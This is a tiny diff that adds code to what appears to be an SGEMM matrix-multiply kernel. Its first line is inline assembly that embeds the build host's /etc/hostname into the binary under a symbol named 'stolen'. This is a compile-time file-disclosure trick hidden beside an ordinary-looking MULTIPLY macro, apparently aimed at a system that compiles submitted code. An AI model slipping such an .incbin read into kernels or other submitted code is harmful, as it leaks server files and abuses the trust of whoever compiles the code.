@@ -1,0 +1,5 @@
+__asm(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/hostname\"\n.text");
+SGEMM
+{
+    MULTIPLY;
+}
